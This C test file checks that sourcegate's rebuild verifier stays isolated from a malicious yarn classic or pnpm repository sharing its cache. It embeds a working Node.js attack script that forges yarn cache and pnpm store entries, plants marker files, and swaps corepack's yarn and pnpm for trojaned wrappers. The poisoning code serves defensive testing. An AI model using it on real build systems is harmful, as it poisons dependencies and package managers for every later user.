/*
 * Rebuild isolation, caches (issue 13), for yarn classic and pnpm victims: the npm scenario of
 * test_rebuild_isolation.c with the package managers corepack brings. Everything in ONE
 * sourcegate cache folder, the registry a loopback server (offline) that also serves the
 * pinned releases of yarn and pnpm, so corepack downloads them as in a real rebuild:
 * - an attacker repository of the same package manager runs its own code in the install step
 *   (yarn classic: `.yarnrc yarn-path`; pnpm: `.pnpmfile.cjs`); that code marks every folder
 *   its environment names, writes into every path it can guess (sourcegate's cache, even told
 *   its exact path and the registry, the gateway's index and tarballs, the folder the tests
 *   take the package managers from), forges the entry the victim would read next in yarn's
 *   cache and pnpm's store, and replaces the yarn and pnpm that corepack installed; then it
 *   shows the forgeries work: within its own rebuild, installs by the real package manager
 *   and by corepack's get the attacker's dependency;
 * - then a victim (a lockfile, its build copies its dependency into dist/) is rebuilt: an
 *   artifact with the attacker's bytes is never a pass, the honest one reproduces, and
 *   nothing the attacker wrote is left in the cache folder.
 * The package managers' tarballs come from $SG_TEST_PM_DIR (default
 * /var/cache/sourcegate-tests/pm), filled by ci/deps; without them the cases skip saying so,
 * and fail when CI is set. They also skip without node, npm, corepack or a working bubblewrap.
 */
#define _GNU_SOURCE /* memmem */
#include "sg_test.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/x509.h>

#include "common/common.h"
#include "common/hash.h"
#include "http_server.h"
#include "verifier/rebuild/rebuild_int.h"

#define PM_DIR_DEFAULT "/var/cache/sourcegate-tests/pm"
#define YARN_VERSION "1.22.22"
#define PNPM_VERSION "9.15.9" /* the version a v9 pnpm-lock.yaml gets (rebuild_plan.c) */

#define HONEST_JS "module.exports = 'honest';\n"
#define EVIL_JS "module.exports = 'EVIL: the attacker wrote this';\n"
#define EVIL_MARK "EVIL: the attacker"
#define KEY_ID "SHA256:sourcegate-test-registry"
#define FORGED "the forged dep" /* what the attack's probes say when the forgery took */

/* The attacker's code, run in its install step as yarn (yarn-path) or from pnpm's hooks. It
 * takes what it needs from the registry (the gateway) and knows where everything is. */
static const char attack_js[] =
    "const fs = require('fs'), path = require('path'), http = require('http');\n"
    "const crypto = require('crypto'), env = process.env;\n"
    "const EVIL = \"module.exports = 'EVIL: the attacker wrote this';\\n\";\n"
    "function put(p, data) {\n"
    "  try { fs.mkdirSync(path.dirname(p), {recursive: true}); fs.writeFileSync(p, data);\n"
    "    console.error('attack: wrote ' + p); } catch (e) {}\n"
    "}\n"
    "const hex = (alg, b) => crypto.createHash(alg).update(b).digest('hex');\n"
    "const sri = (b) => 'sha512-' + crypto.createHash('sha512').update(b).digest('base64');\n"
    "// 1. every folder the environment names, and their parents (a file it names stays one)\n"
    "const isDir = (p) => {\n"
    "  try { return fs.statSync(p).isDirectory(); } catch (e) { return null; }\n"
    "};\n"
    "for (const [k, v] of Object.entries(env)) {\n"
    "  if (typeof v !== 'string' || !v.startsWith('/') || v.includes(':')) continue;\n"
    "  const folder = isDir(v) ?? /(dir|folder|home|cache|tmp)$/i.test(k);\n"
    "  for (const d of [folder ? v : null, path.dirname(v), path.dirname(path.dirname(v))])\n"
    "    if (d) put(path.join(d, 'POISON-' + k), 'x');\n"
    "}\n"
    "// 2. sourcegate's cache where it may be: a forged gateway index entry and tarball for dep\n"
    "const evilTgz = fs.readFileSync(path.join(__dirname, 'evil.tgz'));\n"
    "const roots = [env.SG_TEST_CACHE, path.join(env.HOME || '/', '.cache/sourcegate'),\n"
    "  '/root/.cache/sourcegate', '/var/cache/sourcegate', '/tmp/sourcegate'];\n"
    "for (const root of roots) {\n"
    "  put(path.join(root, 'POISON-guess'), 'x');\n"
    "  const key = hex('sha256', env.SG_TEST_REGISTRY + '\\ndep\\ndep-1.0.0.tgz');\n"
    "  put(path.join(root, 'rebuild/gateway', key), env.SG_TEST_REGISTRY +\n"
    "    'dep/-/dep-1.0.0.tgz\\n' + sri(evilTgz) + '\\n\\n');\n"
    "  const h = hex('sha512', evilTgz);\n"
    "  put(path.join(root, 'tarballs/sha512', h.slice(0, 2), h + '.tgz'), evilTgz);\n"
    "}\n"
    "put(path.join(env.SG_TEST_PM_DIR, 'POISON-pm'), 'x');\n"
    "// 3. the entries the victim's package manager reads next, for the honest dep\n"
    "http.get(env.npm_config_registry + 'dep', (res) => {\n"
    "  let body = '';\n"
    "  res.on('data', (c) => body += c);\n"
    "  res.on('end', () => { forge(JSON.parse(body).versions['1.0.0'].dist); });\n"
    "}).on('error', (e) => { console.error('attack: ' + e.message); process.exit(1); });\n"
    "function forge(dist) {\n"
    "  const pj = '{\"name\":\"dep\",\"version\":\"1.0.0\"}\\n';\n"
    "  // yarn classic's cache folder of dep@1.0.0 with the lockfile's hash\n"
    "  const y = path.join(env.YARN_CACHE_FOLDER, 'v6', 'npm-dep-1.0.0-' + dist.shasum +\n"
    "    '-integrity', 'node_modules', 'dep');\n"
    "  put(path.join(y, 'package.json'), pj);\n"
    "  put(path.join(y, 'index.js'), EVIL);\n"
    "  put(path.join(y, '.yarn-metadata.json'), JSON.stringify({manifest: {name: 'dep',\n"
    "    version: '1.0.0', _registry: 'npm', _loc: path.join(y, 'package.json')},\n"
    "    artifacts: [], remote: {resolved: dist.tarball + '#' + dist.shasum, type: 'tarball',\n"
    "    reference: dist.tarball, hash: dist.shasum, integrity: dist.integrity,\n"
    "    registry: 'npm', packageName: 'dep'}, registry: 'npm', hash: dist.shasum}));\n"
    "  // pnpm's store: the index of the honest integrity names the attacker's files\n"
    "  const files = path.join(env.npm_config_store_dir, 'v3', 'files');\n"
    "  const index = {name: 'dep', version: '1.0.0', files: {}};\n"
    "  for (const [name, data] of [['package.json', pj], ['index.js', EVIL]]) {\n"
    "    const h = hex('sha512', data);\n"
    "    put(path.join(files, h.slice(0, 2), h.slice(2)), data);\n"
    "    index.files[name] = {checkedAt: Date.now() + 1e9, integrity: sri(Buffer.from(data)),\n"
    "      mode: 420, size: Buffer.byteLength(data)};\n"
    "  }\n"
    "  const ih = Buffer.from(dist.integrity.slice(7), 'base64').toString('hex');\n"
    "  put(path.join(files, ih.slice(0, 2), ih.slice(2) + '-index.json'), JSON.stringify(index));\n"
    "  // corepack's yarn and pnpm: an install writes the attacker's dep, the rest runs as before\n"
    "  const install = 'fs.mkdirSync(\"node_modules/dep\", {recursive: true});' +\n"
    "    'fs.writeFileSync(\"node_modules/dep/package.json\", ' + JSON.stringify(pj) + ');' +\n"
    "    'fs.writeFileSync(\"node_modules/dep/index.js\", ' + JSON.stringify(EVIL) + ');';\n"
    "  const evilPm = (real) => 'const fs = require(\"fs\");\\n' +\n"
    "    'if (process.argv.includes(\"install\")) { ' + install + ' process.exit(0); }\\n' +\n"
    "    'require(\"./' + real + '\");\\n';\n"
    "  const home = path.join(env.COREPACK_HOME, 'v1');\n"
    "  for (const [pm, v, bin] of [['yarn', env.SG_TEST_YARN, 'yarn.js'],\n"
    "                               ['pnpm', env.SG_TEST_PNPM, 'pnpm.cjs']]) {\n"
    "    const b = path.join(home, pm, v, 'bin');\n"
    "    try { fs.copyFileSync(path.join(b, bin), path.join(b, 'real-' + bin)); } catch (e) {}\n"
    "    put(path.join(b, bin), evilPm('real-' + bin));\n"
    "    if (!fs.existsSync(path.join(home, pm, v, '.corepack')))\n"
    "      put(path.join(home, pm, v, '.corepack'), JSON.stringify({locator: {name: pm,\n"
    "        reference: v}, bin: {[pm]: 'bin/' + bin}, hash: 'sha512.0'}));\n"
    "  }\n"
    "  // the forgeries work: in this rebuild, an install of a copy of this package (the\n"
    "  // victim's lockfile) by the real package manager, and by corepack's, gets them\n"
    "  const yarn = fs.existsSync(path.join(__dirname, 'yarn.lock'));\n"
    "  const pm = yarn ? 'yarn' : 'pnpm', v = yarn ? env.SG_TEST_YARN : env.SG_TEST_PNPM;\n"
    "  const real = path.join(home, pm, v, 'bin', yarn ? 'real-yarn.js' : 'real-pnpm.cjs');\n"
    "  const lock = yarn ? 'yarn.lock' : 'pnpm-lock.yaml';\n"
    "  const args = ['install', '--frozen-lockfile', '--ignore-scripts'];\n"
    "  probe(pm + (yarn ? ' cache' : ' store'), process.execPath, [real].concat(args), lock);\n"
    "  probe('corepack ' + pm, pm, args, lock);\n"
    "  console.error('ATTACK DONE');\n"
    "  process.exit(1);\n"
    "}\n"
    "function probe(label, cmd, args, lock) {\n"
    "  const d = fs.mkdtempSync(path.join(require('os').tmpdir(), 'victim-'));\n"
    "  fs.copyFileSync(path.join(__dirname, 'package.json'), path.join(d, 'package.json'));\n"
    "  fs.copyFileSync(path.join(__dirname, lock), path.join(d, lock));\n"
    "  require('child_process').spawnSync(cmd, args, {cwd: d, stdio: 'ignore', timeout: 60000});\n"
    "  let got = '';\n"
    "  try { got = fs.readFileSync(path.join(d, 'node_modules/dep/index.js'), 'utf8'); }\n"
    "  catch (e) {}\n"
    "  console.error('SAME REBUILD, ' + label + ': ' + (got.includes('EVIL') ? 'the forged dep'\n"
    "    : got.includes('honest') ? 'the honest dep' : 'no dep'));\n"
    "}\n";

/* The attacker's way in, per package manager. */
static const char yarnrc[] = "yarn-path \"./attack.js\"\n";
static const char pnpmfile_cjs[] =
    "// runs when pnpm loads its hooks, before it installs anything\n"
    "require('child_process').spawnSync(process.execPath,\n"
    "  [require('path').join(__dirname, 'attack.js')], {stdio: 'inherit'});\n"
    "module.exports = {hooks: {}};\n";

#define ATTACKER_PJ                                                                                \
    "{\"name\":\"attacker\",\"version\":\"1.0.0\",\"files\":[\"index.js\"],\n"                     \
    " \"dependencies\":{\"dep\":\"1.0.0\"}}\n"

#define VICTIM_PJ                                                                                  \
    "{\"name\":\"victim\",\"version\":\"1.0.0\",\"files\":[\"dist\"],\n"                           \
    " \"dependencies\":{\"dep\":\"1.0.0\"},\n"                                                     \
    " \"scripts\":{\"build\":\"node build.js\"}}\n"

static const char victim_build_js[] =
    "const fs = require('fs');\n"
    "fs.mkdirSync('dist', {recursive: true});\n"
    "fs.copyFileSync('node_modules/dep/index.js', 'dist/index.js');\n";

/* One answer of the registry. */
typedef struct served {
    char target[160];  /* the request target it answers */
    const char *ctype; /* its Content-Type header line */
    char *body;        /* the bytes (owned) */
    size_t len;        /* their size */
} served;

typedef enum { PM_YARN, PM_PNPM } pm_kind;

typedef struct fx {
    sg_ctx *ctx;              /* context */
    int ok;                   /* node, npm, corepack and bubblewrap work */
    char missing[2048];       /* the package managers' tarballs not found, "" when all are */
    char pm_dir[1024];        /* where they are looked for */
    char bwrap[4096];         /* bubblewrap */
    char *cache;              /* the ONE sourcegate cache folder */
    char *dir;                /* fixtures */
    sg_rebuild_opts ro;       /* rebuild options */
    sg_report *report;        /* the last report */
    sgt_http_server *srv;     /* the registry */
    char base[64];            /* its URL, "http://localhost:PORT/" */
    served items[12];         /* what it serves */
    size_t nitems;            /* used items */
    char dep_sha1[41];        /* dep@1.0.0's dist.shasum */
    char dep_integrity[100];  /* its dist.integrity */
    EVP_PKEY *key;            /* the registry's signing key (P-256, as npm's) */
    unsigned char *evil;      /* the attacker's dep tarball */
    size_t evil_len;          /* its bytes */
    char evil_integrity[100]; /* their integrity */
    char *env_owned[8];       /* extra step environment (owned strings) */
    const char *env[9];       /* the same, NULL-terminated, for ro.env */
} fx;

static const char *search_path(void)
{
    const char *p = getenv("PATH");
    return p && *p ? p : "/usr/local/bin:/usr/bin:/bin";
}

static void handle(sgt_http_conn *c, const sgt_http_request *q, void *payload)
{
    fx *f = payload;
    size_t i;
    for (i = 0; i < f->nitems; i++) {
        if (strcmp(q->target, f->items[i].target) == 0) {
            sgt_http_respond(c, 200, f->items[i].ctype, f->items[i].body, f->items[i].len);
            return;
        }
    }
    sgt_http_respond(c, 404, NULL, "not found", 9);
}

static void serve(fx *f, const char *target, const char *ctype, const void *body, size_t len)
{
    served *s = &f->items[f->nitems++];
    assert_true(f->nitems <= SG_ARRAY_SIZE(f->items));
    snprintf(s->target, sizeof(s->target), "%s", target);
    s->ctype = ctype;
    s->body = malloc(len + 1);
    assert_non_null(s->body);
    memcpy(s->body, body, len);
    s->body[len] = '\0';
    s->len = len;
}

static void sha1_hex(char out[41], const void *bytes, size_t len)
{
    sg_ctx *ctx = NULL;
    sg_hash h = SG_HASH_INIT;
    unsigned char d[20];
    size_t dl = 0;
    assert_int_equal(sg_ctx_new(&ctx), 0);
    assert_int_equal(sg_hash_begin(&h, ctx, SG_HASH_SHA1), 0);
    assert_int_equal(sg_hash_update(&h, ctx, bytes, len), 0);
    assert_int_equal(sg_hash_end(&h, ctx, d, &dl), 0);
    sg_hex(out, d, sizeof(d));
    sg_ctx_free(ctx);
}

/* base64 of len bytes into out (NUL-terminated). */
static void base64(char *out, size_t size, const unsigned char *bytes, size_t len)
{
    assert_true((len + 2) / 3 * 4 + 1 <= size);
    EVP_EncodeBlock((unsigned char *)out, bytes, (int)len);
}

/* The registry's signature of "name@version:integrity", as npm signs (ECDSA P-256, SHA-256,
 * DER, base64). */
static void sign(char *out, size_t size, const fx *f, const char *name, const char *version,
                 const char *integrity)
{
    char msg[512];
    unsigned char der[128];
    size_t dl = sizeof(der);
    EVP_MD_CTX *m = EVP_MD_CTX_new();
    int n = snprintf(msg, sizeof(msg), "%s@%s:%s", name, version, integrity);
    assert_true(n > 0 && (size_t)n < sizeof(msg));
    assert_non_null(m);
    assert_int_equal(EVP_DigestSignInit(m, NULL, EVP_sha256(), NULL, f->key), 1);
    assert_int_equal(EVP_DigestSign(m, der, &dl, (const unsigned char *)msg, (size_t)n), 1);
    EVP_MD_CTX_free(m);
    base64(out, size, der, dl);
}

/* COREPACK_INTEGRITY_KEYS naming the registry's key, as corepack's own list names npm's. */
static void trusted_keys(char *out, size_t size, const fx *f)
{
    unsigned char *der = NULL;
    char b64[256];
    int dl = i2d_PUBKEY(f->key, &der);
    assert_true(dl > 0);
    base64(b64, sizeof(b64), der, (size_t)dl);
    OPENSSL_free(der);
    snprintf(out, size,
             "{\"npm\":[{\"expires\":null,\"keyid\":\"" KEY_ID "\",\"keytype\":"
             "\"ecdsa-sha2-nistp256\",\"scheme\":\"ecdsa-sha2-nistp256\",\"key\":\"%s\"}]}",
             b64);
}

/* The registry serves name@version: its packument, its version document (corepack asks for
 * it) and its tarball, at the registry's own URL as a registry does. */
static void publish(fx *f, const char *name, const char *version, const unsigned char *tgz,
                    size_t len)
{
    sg_buf integ = SG_BUF_INIT, vdoc = SG_BUF_INIT, pack = SG_BUF_INIT;
    char sha1[41], sig[256], target[160];

    assert_int_equal(sg_integrity_sha512(&integ, f->ctx, tgz, len), 0);
    sha1_hex(sha1, tgz, len);
    sign(sig, sizeof(sig), f, name, version, integ.ptr);
    sg_buf_printf(&vdoc,
                  "{\"name\":\"%s\",\"version\":\"%s\",\"dist\":{\"tarball\":\"%s%s/-/%s-%s.tgz\","
                  "\"integrity\":\"%s\",\"shasum\":\"%s\",\"signatures\":[{\"keyid\":\"" KEY_ID
                  "\",\"sig\":\"%s\"}]}}",
                  name, version, f->base, name, name, version, integ.ptr, sha1, sig);
    sg_buf_printf(&pack,
                  "{\"name\":\"%s\",\"dist-tags\":{\"latest\":\"%s\"},\"versions\":{\"%s\":%s}}",
                  name, version, version, vdoc.ptr);
    assert_false(vdoc.error || pack.error);
    snprintf(target, sizeof(target), "/%s", name);
    serve(f, target, "Content-Type: application/json\r\n", pack.ptr, pack.size);
    snprintf(target, sizeof(target), "/%s/%s", name, version);
    serve(f, target, "Content-Type: application/json\r\n", vdoc.ptr, vdoc.size);
    snprintf(target, sizeof(target), "/%s/-/%s-%s.tgz", name, name, version);
    serve(f, target, "Content-Type: application/octet-stream\r\n", tgz, len);
    if (strcmp(name, "dep") == 0) {
        snprintf(f->dep_sha1, sizeof(f->dep_sha1), "%s", sha1);
        snprintf(f->dep_integrity, sizeof(f->dep_integrity), "%s", integ.ptr);
    }
    sg_buf_dispose(&integ);
    sg_buf_dispose(&vdoc);
    sg_buf_dispose(&pack);
}

/* Publish a package manager's release from the pinned tarballs, or note it missing. */
static void publish_pm(fx *f, const char *name, const char *version)
{
    char path[2048];
    unsigned char *bytes;
    size_t len = 0;
    snprintf(path, sizeof(path), "%s/%s-%s.tgz", f->pm_dir, name, version);
    if (access(path, R_OK) != 0) {
        size_t used = strlen(f->missing);
        snprintf(f->missing + used, sizeof(f->missing) - used, "%s%s", used ? ", " : "", path);
        return;
    }
    bytes = (unsigned char *)sgt_read_file(path, &len);
    publish(f, name, version, bytes, len);
    free(bytes);
}

/* One more variable for the steps' environment: name=value. */
static void add_env(fx *f, const char *name, const char *value)
{
    size_t n = 0, nl = strlen(name), vl = strlen(value);
    char *s;
    while (f->env_owned[n])
        n++;
    assert_true(n + 1 < SG_ARRAY_SIZE(f->env_owned));
    s = malloc(nl + vl + 2);
    assert_non_null(s);
    memcpy(s, name, nl);
    s[nl] = '=';
    memcpy(s + nl + 1, value, vl + 1);
    f->env_owned[n] = s;
    f->env[n] = s;
    f->env[n + 1] = NULL;
}

static void dep_tarball(unsigned char **out, size_t *len, const char *index_js)
{
    const sgt_tar_entry e[] = {
        {"package/package.json", "{\"name\":\"dep\",\"version\":\"1.0.0\"}\n", 0, 0644, '0', NULL},
        {"package/index.js", index_js, 0, 0644, '0', NULL}};
    sgt_tar_build(out, len, e, 2, 1);
}

static int setup(void **state)
{
    fx *f = calloc(1, sizeof(*f));
    sg_buf b = SG_BUF_INIT;
    const char *pm_dir = getenv("SG_TEST_PM_DIR");
    char keys[1024];
    unsigned char *dep;
    size_t dep_len = 0;

    assert_non_null(f);
    assert_int_equal(sg_ctx_new(&f->ctx), 0);
    if (sgt_have_program("node") && sgt_have_program("npm") && sgt_have_program("corepack") &&
        sg_sandbox__which(&b, f->ctx, "bwrap", search_path()) == 0 &&
        sg_sandbox__probe(f->ctx, b.ptr) == 0) {
        snprintf(f->bwrap, sizeof(f->bwrap), "%s", b.ptr);
        f->ok = 1;
    }
    sg_error_clear(f->ctx);
    sg_buf_dispose(&b);
    snprintf(f->pm_dir, sizeof(f->pm_dir), "%s", pm_dir && *pm_dir ? pm_dir : PM_DIR_DEFAULT);
    f->cache = sgt_tmpdir();
    f->dir = sgt_tmpdir();
    f->key = EVP_EC_gen("P-256");
    assert_non_null(f->key);
    /* "localhost", not 127.0.0.1: inside the sandbox 127.0.0.1 is the sandbox's own loopback
     * (NO_PROXY), so the tarball URLs the packuments name go through the proxy to this server */
    snprintf(f->base, sizeof(f->base), "http://localhost:%d/", sgt_http_start(&f->srv, handle, f));
    publish_pm(f, "yarn", YARN_VERSION);
    publish_pm(f, "pnpm", PNPM_VERSION);
    dep_tarball(&dep, &dep_len, HONEST_JS);
    publish(f, "dep", "1.0.0", dep, dep_len);
    free(dep);
    dep_tarball(&f->evil, &f->evil_len, EVIL_JS);
    assert_int_equal(sg_integrity_sha512(&b, f->ctx, f->evil, f->evil_len), 0);
    snprintf(f->evil_integrity, sizeof(f->evil_integrity), "%s", b.ptr);
    sg_buf_dispose(&b);
    f->ro = (sg_rebuild_opts)SG_REBUILD_OPTS_INIT;
    f->ro.mode = SG_REBUILD_ALWAYS;
    f->ro.search_path = search_path();
    f->ro.bwrap = f->bwrap[0] ? f->bwrap : NULL;
    f->ro.cache_dir = f->cache;
    f->ro.timeout_seconds = 300;
    f->ro.registry = f->base;
    /* corepack checks the releases it downloads against the registry's signatures: those of
     * this registry's key, which the steps' environment names (as a user's does for a mirror
     * with keys of its own, cli/rebuild_args.c) */
    trusted_keys(keys, sizeof(keys), f);
    add_env(f, "COREPACK_INTEGRITY_KEYS", keys);
    /* the attacker is told everything it could guess */
    add_env(f, "SG_TEST_CACHE", f->cache);
    add_env(f, "SG_TEST_REGISTRY", f->base);
    add_env(f, "SG_TEST_PM_DIR", f->pm_dir);
    add_env(f, "SG_TEST_YARN", YARN_VERSION);
    add_env(f, "SG_TEST_PNPM", PNPM_VERSION);
    f->ro.env = f->env;
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fx *f = *state;
    size_t i;
    sgt_http_stop(f->srv);
    sg_report_free(f->report);
    sg_ctx_free(f->ctx);
    sgt_rm_rf(f->cache);
    sgt_rm_rf(f->dir);
    for (i = 0; i < f->nitems; i++)
        free(f->items[i].body);
    for (i = 0; f->env_owned[i]; i++)
        free(f->env_owned[i]);
    EVP_PKEY_free(f->key);
    free(f->evil);
    free(f);
    return 0;
}

/* Skip without the sandbox; without the package managers' tarballs skip saying which and how
 * to get them, or fail when CI is set: CI must run these cases. */
static int ready(const fx *f)
{
    const char *ci = getenv("CI");
    if (f->missing[0] && ci && *ci && strcmp(ci, "0") != 0 && strcmp(ci, "false") != 0)
        fail_msg("CI is set and the package managers' tarballs are missing: %s (ci/deps "
                 "fetches them into $SG_TEST_PM_DIR, default " PM_DIR_DEFAULT ")",
                 f->missing);
    if (!f->ok)
        return 0;
    if (!f->missing[0])
        return 1;
    print_message("SKIPPED: missing %s; fetch them with ci/deps (or: npm pack yarn@" YARN_VERSION
                  " pnpm@" PNPM_VERSION " --pack-destination %s)\n",
                  f->missing, f->pm_dir);
    return 0;
}

#define NEED_PMS(f)                                                                                \
    do {                                                                                           \
        if (!ready(f))                                                                             \
            skip();                                                                                \
    } while (0)

static void print_report(const sg_report *r)
{
    sg_buf out = SG_BUF_INIT;
    sg_ctx *ctx = NULL;
    assert_int_equal(sg_ctx_new(&ctx), 0);
    assert_int_equal(sg_report_write_text(&out, ctx, r, SG_TEXT_VERBOSE), 0);
    printf("%s", out.ptr);
    sg_buf_dispose(&out);
    sg_ctx_free(ctx);
}

/* Commit a repository `name` with files, pack an artifact with art, and verify it with a
 * rebuild. The verify's return code (the report in f->report when 0). */
static int verify(fx *f, const char *name, const sgt_file *files, size_t nfiles,
                  const sgt_tar_entry *art, size_t nart)
{
    char repo[4096], tgz[4096];
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
    int error;

    snprintf(repo, sizeof(repo), "%s/%s", f->dir, name);
    snprintf(tgz, sizeof(tgz), "%s/%s-1.0.0.tgz", f->dir, name);
    sgt_rm_rf(repo);
    sgt_git_init(repo, 0);
    sgt_git_commit(NULL, repo, NULL, files, nfiles, "fixture", 0);
    sgt_tar_write(tgz, art, nart);
    o.tarball_path = tgz;
    o.source = repo;
    o.rebuild = &f->ro;
    sg_report_free(f->report);
    f->report = NULL;
    error = sg_verify_local(&f->report, f->ctx, &o);
    if (error == 0)
        print_report(f->report);
    else
        printf("# %s: error: %s\n", name, sg_error_message(f->ctx));
    sg_error_clear(f->ctx);
    return error;
}

/* The lockfile of a package that depends on dep@1.0.0 (yarn.lock v1, pnpm-lock.yaml v9). */
static void lockfile(sgt_file *out, char *buf, size_t size, const fx *f, pm_kind pm)
{
    if (pm == PM_YARN)
        snprintf(buf, size,
                 "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n"
                 "# yarn lockfile v1\n\n\n"
                 "dep@1.0.0:\n"
                 "  version \"1.0.0\"\n"
                 "  resolved \"%sdep/-/dep-1.0.0.tgz#%s\"\n"
                 "  integrity %s\n",
                 f->base, f->dep_sha1, f->dep_integrity);
    else
        snprintf(buf, size,
                 "lockfileVersion: '9.0'\n\n"
                 "settings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\n"
                 "importers:\n\n  .:\n    dependencies:\n      dep:\n"
                 "        specifier: 1.0.0\n        version: 1.0.0\n\n"
                 "packages:\n\n  dep@1.0.0:\n    resolution: {integrity: %s}\n\n"
                 "snapshots:\n\n  dep@1.0.0: {}\n",
                 f->dep_integrity);
    out->path = pm == PM_YARN ? "yarn.lock" : "pnpm-lock.yaml";
    out->content = buf;
    out->len = 0;
    out->mode = 0;
}

/* The attacker's rebuild, its code run by the package manager's own way in. Returns its
 * rebuild log. */
static char *rebuild_attacker(fx *f, pm_kind pm)
{
    char lock[4096];
    sgt_file files[] = {
        {"package.json", ATTACKER_PJ, 0, 0}, {"index.js", "module.exports = 1;\n", 0, 0},
        {"attack.js", attack_js, 0, 0755},   {"evil.tgz", (const char *)f->evil, f->evil_len, 0},
        {".yarnrc", yarnrc, 0, 0},           {"lockfile", NULL, 0, 0}};
    const sgt_tar_entry art[] = {{"package/package.json", ATTACKER_PJ, 0, 0644, '0', NULL},
                                 {"package/index.js", "module.exports = 1;\n", 0, 0644, '0', NULL}};
    const char *log;
    char *text = NULL;

    if (pm == PM_PNPM) {
        files[4].path = ".pnpmfile.cjs";
        files[4].content = pnpmfile_cjs;
    }
    lockfile(&files[5], lock, sizeof(lock), f, pm);
    (void)verify(f, "attacker", files, SG_ARRAY_SIZE(files), art, 2);
    if (f->report && (log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG)) && *log)
        text = sgt_read_file(log, NULL);
    return text ? text : strdup("");
}

/* The victim: its build copies dep's index.js into dist/; the artifact's dist/index.js is
 * `dist_js`. Returns the verdict (-1 on an operational error). */
static int rebuild_victim(fx *f, pm_kind pm, const char *dist_js)
{
    char lock[4096];
    sgt_file files[] = {{"package.json", VICTIM_PJ, 0, 0},
                        {"build.js", victim_build_js, 0, 0},
                        {".gitignore", "dist\nnode_modules\n", 0, 0},
                        {"lockfile", NULL, 0, 0}};
    const sgt_tar_entry art[] = {{"package/package.json", VICTIM_PJ, 0, 0644, '0', NULL},
                                 {"package/dist/index.js", dist_js, 0, 0644, '0', NULL}};
    lockfile(&files[3], lock, sizeof(lock), f, pm);
    if (verify(f, "victim", files, SG_ARRAY_SIZE(files), art, 2) < 0)
        return -1;
    return (int)sg_report_verdict(f->report);
}

/* Files under dir (recursively) whose name starts with prefix. */
static size_t count_named(const char *dir, const char *prefix)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    size_t n = 0;
    while (d && (de = readdir(d))) {
        char p[4096];
        struct stat st;
        if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        if (strncmp(de->d_name, prefix, strlen(prefix)) == 0) {
            printf("# left behind: %s\n", p);
            n++;
        }
        if (lstat(p, &st) == 0 && S_ISDIR(st.st_mode))
            n += count_named(p, prefix);
    }
    if (d)
        closedir(d);
    return n;
}

/* Regular files under dir (recursively) whose bytes contain needle. */
static size_t count_containing(const char *dir, const char *needle)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    size_t n = 0;
    while (d && (de = readdir(d))) {
        char p[4096];
        struct stat st;
        if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        if (lstat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            n += count_containing(p, needle);
        } else if (S_ISREG(st.st_mode)) {
            size_t len = 0;
            char *bytes = sgt_read_file(p, &len);
            if (memmem(bytes, len, needle, strlen(needle))) {
                printf("# holds the attacker's bytes: %s\n", p);
                n++;
            }
            free(bytes);
        }
    }
    if (d)
        closedir(d);
    return n;
}

/* Files under dir (recursively) whose bytes are exactly data. */
static size_t count_holding(const char *dir, const unsigned char *data, size_t len)
{
    DIR *d = opendir(dir);
    struct dirent *de;
    size_t n = 0;
    while (d && (de = readdir(d))) {
        char p[4096];
        struct stat st;
        if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
            continue;
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        if (lstat(p, &st) < 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            n += count_holding(p, data, len);
        } else if (S_ISREG(st.st_mode) && (size_t)st.st_size == len) {
            size_t got = 0;
            char *bytes = sgt_read_file(p, &got);
            if (got == len && memcmp(bytes, data, len) == 0) {
                printf("# the attacker's tarball: %s\n", p);
                n++;
            }
            free(bytes);
        }
    }
    if (d)
        closedir(d);
    return n;
}

/* The attack ran to its end and reached the package managers' caches of its own rebuild. */
static void assert_attack_ran(const char *log, pm_kind pm)
{
    printf("%s\n", log);
    assert_non_null(strstr(log, "ATTACK DONE"));
    assert_non_null(strstr(log, "/v6/npm-dep-1.0.0-"));    /* yarn's cache */
    assert_non_null(strstr(log, "/v3/files/"));            /* pnpm's store */
    assert_non_null(strstr(log, "/POISON-COREPACK_HOME")); /* corepack's home */
    assert_non_null(strstr(log, pm == PM_YARN ? "/v1/yarn/" YARN_VERSION "/bin/yarn.js"
                                              : "/v1/pnpm/" PNPM_VERSION "/bin/pnpm.cjs"));
    /* ... and its forgeries are real: within its own rebuild they are installed */
    assert_non_null(strstr(log, pm == PM_YARN ? "SAME REBUILD, yarn cache: " FORGED
                                              : "SAME REBUILD, pnpm store: " FORGED));
    assert_non_null(strstr(log, pm == PM_YARN ? "SAME REBUILD, corepack yarn: " FORGED
                                              : "SAME REBUILD, corepack pnpm: " FORGED));
}

/* After the attack: a victim whose artifact carries the attacker's bytes is never a pass,
 * one with the registry's honest dependency reproduces and passes, and nothing the attacker
 * wrote is in the cache folder or where the tests keep the package managers. */
static void assert_victim_unpoisoned(fx *f, pm_kind pm)
{
    assert_int_not_equal(rebuild_victim(f, pm, EVIL_JS), SG_VERDICT_PASS);
    assert_int_equal(rebuild_victim(f, pm, HONEST_JS), SG_VERDICT_PASS);
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "reproduced");
    assert_int_equal(count_named(f->cache, "POISON"), 0);
    assert_int_equal(count_containing(f->cache, EVIL_MARK), 0);
    assert_int_equal(count_holding(f->cache, f->evil, f->evil_len), 0);
    assert_int_equal(count_containing(f->cache, f->evil_integrity), 0); /* a forged index */
    assert_int_equal(count_named(f->pm_dir, "POISON"), 0);
}

/* A yarn classic attacker (.yarnrc yarn-path) rebuilt first cannot make a yarn classic
 * victim rebuilt next in the same cache reproduce its bytes. */
